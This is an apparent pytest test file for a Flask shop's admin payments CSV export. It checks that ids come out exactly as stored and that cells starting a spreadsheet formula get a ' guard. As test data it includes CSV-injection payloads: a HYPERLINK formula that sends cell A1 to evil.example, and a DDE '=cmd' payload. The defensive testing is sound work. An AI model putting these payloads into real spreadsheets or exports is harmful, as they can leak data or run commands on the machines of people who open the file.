"""The payments CSV gives every id exactly as the ledger holds it, and no cell starts a formula.

A plain id (``[A-Za-z0-9_.:-]``: every order id flask_stars made, every real charge id, every
user id) is written as it is, even when it starts with "-"; an id with any other character
(only a forged one) and every free-text cell get the ``'`` guard when they start with
= + - @ tab or CR. New order ids never start with "-".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
import sqlalchemy as sa

from flask_stars import models
from flask_stars.models import Order, OrderStatus, Payment, utcnow
from flask_stars.sandbox import Sandbox
from flask_stars.state import get_state
from tests.support.admin_app import AdminShop, served_admin
from tests.support.rows import payment_row

LEGACY_ORDER = "-Legacy_order-id00001"  # made before new_order_id drew again on a leading "-"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
ID_COLUMNS = ("id", "charge_id", "user_id", "payer_id", "order_id", "update_id")


@pytest.fixture
def admin(database_url: str, sandbox: Sandbox) -> Iterator[AdminShop]:
    with served_admin(database_url, sandbox) as shop:
        yield shop


def _export(shop: AdminShop) -> list[dict[str, str]]:
    response = shop.client().get("/admin/payments.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _ledger(shop: AdminShop) -> dict[int, Payment]:
    return {p.id: p for p in shop.payments()}


def _as_ledger_holds(payment: Payment) -> dict[str, str]:
    return {
        "id": str(payment.id),
        "charge_id": payment.telegram_payment_charge_id,
        "user_id": str(payment.user_id),
        "payer_id": str(payment.payer_id),
        "order_id": payment.order_id or "",
        "update_id": "" if payment.update_id is None else str(payment.update_id),
    }


def test_plain_ids_come_out_exactly_even_with_a_leading_minus(admin: AdminShop) -> None:
    order_id, attempt = admin.buy(900)  # a real purchase: its order id and Telegram's charge id
    with admin.app.app_context():
        session = get_state().session
        session.add(
            Order(
                id=LEGACY_ORDER,
                user_id=901,
                pack_id="stars_pack_1",
                stars=10,
                status=OrderStatus.PAID,
                expires_at=utcnow(),
            )
        )
        session.flush()
        session.execute(
            sa.insert(Payment),
            [
                payment_row("-stx-leading-minus_1", order_id=LEGACY_ORDER),
                payment_row("stx.with:dots_and-dashes", user_id=-5, payer_id=-5, update_id=-1),
                payment_row("-1", update_id=2**63 - 1),
            ],
        )
        session.commit()
    ledger = _ledger(admin)
    rows = _export(admin)
    assert len(rows) == len(ledger) == 4
    for row in rows:
        expected = _as_ledger_holds(ledger[int(row["id"])])
        assert {k: row[k] for k in ID_COLUMNS} == expected
    exported = {row["charge_id"] for row in rows}
    assert {"-stx-leading-minus_1", "-1", attempt.charge_id} <= exported
    assert {row["order_id"] for row in rows} == {order_id, LEGACY_ORDER, ""}
    assert {row["user_id"] for row in rows} >= {"-5", "900", "901"}


@pytest.mark.parametrize("forged", ["=1+2", "+15551234567", "@SUM(A1:A9)", "-2+3", "=cmd|' /C calc'!A0"])
def test_a_forged_id_that_could_start_a_formula_is_guarded(admin: AdminShop, forged: str) -> None:
    with admin.app.app_context():
        session = get_state().session
        session.execute(sa.insert(Payment), [payment_row(forged)])
        session.commit()
    (row,) = _export(admin)
    assert row["charge_id"] == "'" + forged  # guarded: the leading ' makes it text
    assert row["charge_id"][1:] == forged  # and the id is the ledger's once the guard is taken off


def test_free_text_cells_that_could_start_a_formula_are_guarded(admin: AdminShop) -> None:
    with admin.app.app_context():
        session = get_state().session
        session.execute(
            sa.insert(Payment),
            [
                payment_row("stxA", pack_id=HYPERLINK, problem="=2+5"),
                payment_row("stxB", pack_id="-pack", currency="+XTR", problem="@here"),
                payment_row("stxC", pack_id="\tpack", problem="\rproblem"),
            ],
        )
        session.commit()
    rows = {row["charge_id"]: row for row in _export(admin)}
    assert rows["stxA"]["pack_id"] == "'" + HYPERLINK and rows["stxA"]["problem"] == "'=2+5"
    assert rows["stxB"]["pack_id"] == "'-pack" and rows["stxB"]["currency"] == "'+XTR"
    assert rows["stxB"]["problem"] == "'@here"
    assert rows["stxC"]["pack_id"] == "'\tpack" and rows["stxC"]["problem"] == "'\rproblem"
    for row in rows.values():
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
            if value.startswith("-"):
                assert name in ID_COLUMNS  # only a plain id may start with "-"


def test_new_order_ids_never_start_with_a_minus(monkeypatch: pytest.MonkeyPatch) -> None:
    drawn = iter(["-first", "-second", "third_Draw-ok"])
    monkeypatch.setattr(models.secrets, "token_urlsafe", lambda n: next(drawn))
    assert models.new_order_id() == "third_Draw-ok"
    monkeypatch.undo()
    assert not any(models.new_order_id().startswith("-") for _ in range(5_000))
